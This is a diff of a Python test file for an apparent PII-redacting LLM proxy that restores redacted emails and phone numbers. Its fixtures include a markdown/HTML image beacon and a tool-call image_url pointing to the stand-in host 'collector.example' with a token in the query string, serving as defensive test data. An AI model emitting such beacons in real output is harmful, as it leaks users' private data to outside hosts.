@@ -18,7 +18,16 @@ import httpx
 import pytest
 
 from tests.conftest import Mock, Proxy, ProxyFactory
-from tests.support.clients import SCREENED_POLICY, chat_text_and_arguments, claude, data_events, oai, sse
+from tests.support.clients import (
+    RESTORE_ONLY_POLICY,
+    SCREENED_POLICY,
+    chat_text_and_arguments,
+    claude,
+    data_events,
+    oai,
+    responses_text_and_calls,
+    sse,
+)
 
 MAIL = "jane.doe@example.com"
 PHONE = "617-555-0143"
@@ -36,17 +45,9 @@ WANT = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"
 ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": E, "note": f"call {P}"}
 WANT_ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": MAIL, "note": f"call {PHONE}"}
 
-RESTORE_ONLY = """
-name: default
-on_error: block
-input:
-  pii: {action: redact, entities: [EMAIL_ADDRESS, PHONE_NUMBER], restore: true}
-"""
-
-
 @pytest.fixture(scope="module", params=["screened", "restore_only"])
 def urls(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
-    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY
+    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
     return proxy_factory(files={"policies/default.yaml": policy})
 
 
@@ -70,21 +71,9 @@ def test_chat(mock: Mock, urls: Proxy, stream: bool) -> None:
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_responses(mock: Mock, urls: Proxy, stream: bool) -> None:
     mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
-    client = oai(urls).responses
-    if stream:
-        with client.stream(model="gpt-4o-mini", input=PROMPT) as s:
-            events = list(s)
-            final = s.get_final_response()
-        text = "".join(e.delta for e in events if e.type == "response.output_text.delta")
-        args = "".join(e.delta for e in events if e.type == "response.function_call_arguments.delta")
-        assert json.loads(args) == WANT_ARGS
-        assert final.output_text == text
-    else:
-        final = client.create(model="gpt-4o-mini", input=PROMPT)
-        text = final.output_text
+    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
     sent_placeholders(mock)
     assert text == WANT
-    calls = [json.loads(item.arguments) for item in final.output if item.type == "function_call"]
     assert calls == [WANT_ARGS]
 
 
